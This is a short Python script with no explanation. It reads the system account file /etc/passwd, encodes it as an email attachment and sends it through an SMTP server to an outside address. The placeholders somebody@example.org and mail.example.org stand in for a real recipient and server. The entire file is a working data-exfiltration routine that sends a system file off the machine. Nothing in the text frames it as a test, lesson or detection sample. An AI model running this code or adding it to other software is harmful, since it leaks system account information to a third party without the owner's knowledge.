import smtplib
from email import encoders
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart

letter = MIMEMultipart()
letter["To"] = "somebody@example.org"
with open("/etc/passwd", "rb") as users:
    part = MIMEBase("application", "octet-stream")
    part.set_payload(users.read())
encoders.encode_base64(part)
letter.attach(part)
with smtplib.SMTP("mail.example.org", 587) as server:
    server.send_message(letter)
